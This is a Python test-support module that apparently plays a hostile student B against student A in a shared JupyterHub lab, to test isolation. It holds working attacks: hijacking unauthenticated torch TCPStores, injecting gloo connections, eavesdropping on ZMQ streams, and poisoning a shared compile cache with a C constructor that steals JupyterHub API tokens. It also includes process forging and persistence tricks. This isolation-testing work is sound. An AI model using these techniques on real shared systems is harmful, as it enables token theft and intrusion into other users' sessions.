"""What student B's kernel tries against student A's Lab: tests/test_classroom_hub.py sends this
file's source to B's kernel (a notebook cell, run as B), then calls these functions there. Each
returns what B got; the test judges each attack by what it did to A (a key B wrote that A's ranks
read, A's output in B's hands, a connection A's rank accepted from B, a file of A's B read).

Where B finds A's ports: /proc/net/tcp lists every TCP socket of B's network namespace with its
owner's uid, readable by every user; on a shared 127.0.0.1 that includes every Lab's.
"""

from __future__ import annotations

import datetime
import os
import socket
import struct
import threading
import time

WRITTEN = "written-by-student-b"
"""The key B writes into every rendezvous store it reaches (A's ranks look for it: `store.check`)."""


def listening_ports(uid: int) -> list[int]:
    """The TCP ports that processes of `uid` listen on, as this network namespace's /proc/net shows them."""
    out = set()
    for table in ("/proc/net/tcp", "/proc/net/tcp6"):
        try:
            lines = open(table).read().splitlines()[1:]
        except OSError:
            continue
        for line in lines:
            f = line.split()
            if f[3] == "0A" and int(f[7]) == uid:  # 0A: LISTEN; f[7]: the socket's owner
                out.add(int(f[1].rsplit(":", 1)[1], 16))
    return sorted(out)


class StoreCatcher:
    """Watch for every new listening port of `uid` and try each as torch's TCPStore (no
    authentication): one that answers is kept, read (list_keys) and written (WRITTEN), and stays
    B's after the store stops listening (labkit closes the listener once the ranks have joined,
    engines/rendezvous.py; connections made before stay served)."""

    def __init__(self, uid: int, seconds: float = 300.0):
        os.environ["TORCH_CPP_LOG_LEVEL"] = "FATAL"  # a ZMQ port refuses the store's handshake, loudly
        import torch.distributed  # noqa: F401  (loaded now: the store listens for under a second)

        self.uid, self.seconds = uid, seconds
        self.seen_ports: set[int] = set()
        self.caught: dict[int, object] = {}
        self.keys: dict[int, list[str]] = {}
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._watch, daemon=True)
        self._thread.start()

    def _watch(self) -> None:
        known = set(listening_ports(self.uid))
        self.seen_ports |= known
        end = time.monotonic() + self.seconds
        while not self._stop.is_set() and time.monotonic() < end:
            now = set(listening_ports(self.uid))
            for port in now - known:  # each new port at once, in a thread: the store listens briefly
                threading.Thread(target=self._try, args=(port,), daemon=True).start()
            known |= now
            self.seen_ports |= now
            time.sleep(0.002)

    def _try(self, port: int) -> None:
        import torch.distributed as dist

        try:
            store = dist.TCPStore("127.0.0.1", port, is_master=False, timeout=datetime.timedelta(seconds=2))
            store.set(WRITTEN, "student B was here")
            self.caught[port] = store
        except Exception:  # not a store (ipyparallel's ports, gloo's), or gone
            pass

    def report(self) -> dict:
        """Stop watching; what B saw and holds: A's listening ports, the stores B caught and their keys."""
        self._stop.set()
        self._thread.join(10)
        time.sleep(2.5)  # tries still running end within their 2 s timeout
        for port, store in self.caught.items():
            self.keys[port] = sorted(store.list_keys())
        return {"ports_seen": sorted(self.seen_ports), "stores": sorted(self.caught), "keys": self.keys}


def knock(ports: list[int], hosts: list[str], seq: int = 1 << 40) -> dict:
    """Connect to each (host, port) and send gloo's 8-byte sequence number (gloo's listener files an
    incoming connection under the number it reads, unauthenticated: gloo/transport/tcp/listener.cc).
    Keeps the connections open (in KNOCKS); returns host:port -> B's local port, or the error."""
    out = {}
    for host in hosts:
        for port in ports:
            try:
                s = socket.create_connection((host, port), timeout=3)
                s.sendall(struct.pack("<q", seq))
                KNOCKS.append(s)
                out[f"{host}:{port}"] = s.getsockname()[1]
            except OSError as e:
                out[f"{host}:{port}"] = f"{type(e).__name__}: {e.strerror or e}"
    return out


KNOCKS: list[socket.socket] = []


class Listener:
    """ZMQ SUB sockets on (host, port): a PUB socket (ipyparallel's iopub, a Jupyter kernel's
    iopub) sends what it publishes to every subscriber, without a key."""

    def __init__(self, ports: list[int], hosts: list[str]):
        import zmq

        self.ctx = zmq.Context()
        self.subs = {}
        for host in hosts:
            for port in ports:
                s = self.ctx.socket(zmq.SUB)
                s.setsockopt(zmq.SUBSCRIBE, b"")
                s.setsockopt(zmq.LINGER, 0)
                s.connect(f"tcp://{host}:{port}")
                self.subs[f"{host}:{port}"] = s

    def heard(self, marker: str, seconds: float) -> dict:
        """For `seconds`: messages per endpoint, and the endpoints whose messages carried `marker`."""
        import zmq

        poller = zmq.Poller()
        for s in self.subs.values():
            poller.register(s, zmq.POLLIN)
        by_socket = {s: k for k, s in self.subs.items()}
        count, carried = {}, set()
        end = time.monotonic() + seconds
        while time.monotonic() < end:
            for s, _ in poller.poll(100):
                parts = s.recv_multipart()
                key = by_socket[s]
                count[key] = count.get(key, 0) + 1
                if any(marker.encode() in p for p in parts):
                    carried.add(key)
        for s in self.subs.values():
            s.close()
        self.ctx.term()
        return {"messages": count, "carried_marker": sorted(carried)}


def read(paths: list[str]) -> dict:
    """Try to read each path (a file, or a directory's listing): path -> bytes read, or the error."""
    out = {}
    for p in paths:
        try:
            if os.path.isdir(p):
                out[p] = f"listed {len(os.listdir(p))} entries"
            else:
                with open(p, "rb") as f:
                    out[p] = f"read {len(f.read())} bytes"
        except OSError as e:
            out[p] = type(e).__name__
    return out


# -- B's attacks on what students share besides the network ---------------------------------------
PLANT = r"""
#include <torch/csrc/inductor/cpp_prefix.h>
#include <stdio.h>
#include <stdlib.h>
#include <unistd.h>
/* student B's: runs in every process that loads a kernel built with this header */
__attribute__((constructor)) static void planted_by_b(void) {
    setenv("PLANTED_BY_B", "yes", 1);
    char path[512];
    snprintf(path, sizeof path, "%s/ran-as-%d-pid-%d", "DROP", (int)getuid(), (int)getpid());
    FILE *f = fopen(path, "w");
    const char *token = getenv("JUPYTERHUB_API_TOKEN");
    if (f) { fputs(token ? token : "", f); fclose(f); }
}
"""


def header_name() -> str:
    """The name torch's inductor gives its precompiled C++ header on this machine (one per torch,
    compiler and flags, the same for every user): B compiles a function and stops at the header."""
    import torch
    from torch._inductor import codecache

    found = []
    real = codecache.write

    def spy(content, extension, extra="", hash_type="code", specified_dir="", key=None):
        if extension == "h" and specified_dir == codecache._HEADER_DIR:
            key = codecache.get_hash(content.strip(), extra, hash_type)
            found.append(os.path.basename(codecache.get_path(key, extension, specified_dir)[2]))
            raise RuntimeError("B has the header's name")  # no need to build it
        return real(content, extension, extra, hash_type, specified_dir, key)

    codecache.write = spy
    try:
        torch._dynamo.reset()
        torch.compile(lambda x: (x * 2).sin().sum())(torch.randn(8))
    except Exception:
        pass
    finally:
        codecache.write = real
    if not found:
        raise RuntimeError(
            "torch built no precompiled header: the attack needs TORCHINDUCTOR_CPP_CACHE_PRECOMPILE_HEADERS"
        )
    return found[0]


def plant_compile_cache(victim: str, drop: str) -> dict:
    """Make `victim`'s torch compile cache before they do, /tmp/torchinductor_<victim> (0777; torch
    never checks its owner), with B's precompiled header in it: whoever compiles with it builds
    B's constructor into every kernel they load. `drop` (0777) is where that code leaves word."""
    name = header_name()
    root = f"/tmp/torchinductor_{victim}"
    headers = f"{root}/precompiled_headers"
    os.makedirs(headers, exist_ok=True)
    os.makedirs(drop, exist_ok=True)
    for d in (root, headers, drop):
        os.chmod(d, 0o777)
    with open(f"{headers}/{name}", "w") as f:
        f.write(PLANT.replace("DROP", drop))
    os.chmod(f"{headers}/{name}", 0o666)
    return {"planted": f"{headers}/{name}"}


def dropped(drop: str) -> dict:
    """What B's planted code left: uid -> the tokens it found, and who the hub says each token is."""
    import json
    import urllib.request

    out = {}
    for entry in sorted(os.listdir(drop)) if os.path.isdir(drop) else []:
        token = open(f"{drop}/{entry}").read()
        req = urllib.request.Request(
            os.environ["JUPYTERHUB_API_URL"] + "/user", headers={"Authorization": f"token {token}"}
        )
        try:
            with urllib.request.urlopen(req, timeout=10) as r:
                who = json.loads(r.read())["name"]
        except Exception as e:
            who = type(e).__name__
        out[entry.split("-")[2]] = who
    return out


def snoop(pids: list[int]) -> dict:
    """Read what /proc tells of other users' processes `pids`: their sockets (every namespace's, in
    /proc/<pid>/net/tcp) and command lines; and which processes of other users B can see at all."""
    out = {}
    for pid in pids:
        try:
            lines = open(f"/proc/{pid}/net/tcp").read().splitlines()[1:]
            out[f"{pid} net/tcp"] = f"listed {sum(line.split()[3] == '0A' for line in lines)} listeners"
        except OSError as e:
            out[f"{pid} net/tcp"] = type(e).__name__
        try:
            out[f"{pid} cmdline"] = f"read {open(f'/proc/{pid}/cmdline').read()!r}"
        except OSError as e:
            out[f"{pid} cmdline"] = type(e).__name__
    others = [int(d) for d in os.listdir("/proc") if d.isdigit() and _uid_of(int(d)) not in (os.getuid(), None)]
    return {"read": out, "others_visible": len(others)}


def _uid_of(pid: int):
    try:
        return os.stat(f"/proc/{pid}").st_uid
    except OSError:
        return None


def lab_tag(kernel: int):
    """The token of the Lab whose kernel is `kernel`, off its watchdog's command line (None: unseen)."""
    for d in os.listdir("/proc"):
        try:
            cmd = open(f"/proc/{d}/cmdline").read().split("\0")
        except OSError:
            continue
        for k, arg in enumerate(cmd[:-2]):
            if arg.endswith("watchdog.py") and cmd[k + 1] == str(kernel):
                return cmd[k + 2]
    return None


FORGED = """
import ctypes, sys, time
ctypes.CDLL(None).prctl(15, b"labkit-engine")  # PR_SET_NAME: what ps and the census read
time.sleep(600)
"""


def forge_engine(token: str) -> int:
    """A process of B's that looks like one of the engines of the Lab tagged `token`: an engine's name,
    the forked engines' module on its command line, the tag in its environment. Its pid."""
    import subprocess
    import sys

    from labkit.cluster.forked import ENGINE_NAME, MODULE
    from labkit.cluster.watchdog import TAG

    p = subprocess.Popen([sys.executable, "-c", FORGED, MODULE], env={**os.environ, TAG: token}, start_new_session=True)
    deadline = time.monotonic() + 30
    while time.monotonic() < deadline and open(f"/proc/{p.pid}/comm").read().strip() != ENGINE_NAME:
        time.sleep(0.05)
    return p.pid


def reach(targets: list) -> dict:
    """Connect to each (host, port) and read what it says: host:port -> 'connected' and its first
    line, or the error."""
    out = {}
    for host, port in targets:
        try:
            with socket.create_connection((host, port), timeout=3) as s:
                s.settimeout(2)
                try:
                    said = s.recv(100).decode(errors="replace").strip()
                except TimeoutError:
                    said = ""  # an HTTP server (the hub's API) waits for the request
                out[f"{host}:{port}"] = f"connected: {said}" if said else "connected, said nothing"
        except OSError as e:
            out[f"{host}:{port}"] = f"{type(e).__name__}: {e.strerror or e}"
    return out


STAYER = """
import os, signal, time
def again(*_):
    if os.fork():
        os._exit(0)  # the parent goes, as asked; the child carries on under a new pid
signal.signal(signal.SIGTERM, again)
while True:
    time.sleep(1)
"""


def stay(tag: str) -> dict:
    """What B leaves to outlive its server: a detached process that forks on every SIGTERM, a System V
    shared-memory segment, and files in each temporary directory (and in TMPDIR)."""
    import subprocess
    import sys
    import tempfile

    p = subprocess.Popen([sys.executable, "-c", STAYER], start_new_session=True)
    got = subprocess.run(["ipcmk", "-M", "4096"], capture_output=True, text=True, timeout=30)
    shm = int(got.stdout.strip().rsplit(" ", 1)[-1])
    files = [f"{d}/{tag}" for d in ("/tmp", "/var/tmp", "/dev/shm", tempfile.gettempdir())]
    for path in files:
        with open(path, "w") as f:
            f.write("student B was here")
    return {"pid": p.pid, "shm": shm, "files": sorted(set(files))}


def widen_cores() -> list[int]:
    """B asks for every core of the machine; the cores B then has."""
    try:
        os.sched_setaffinity(0, range(os.cpu_count()))
    except OSError:
        pass
    return sorted(os.sched_getaffinity(0))
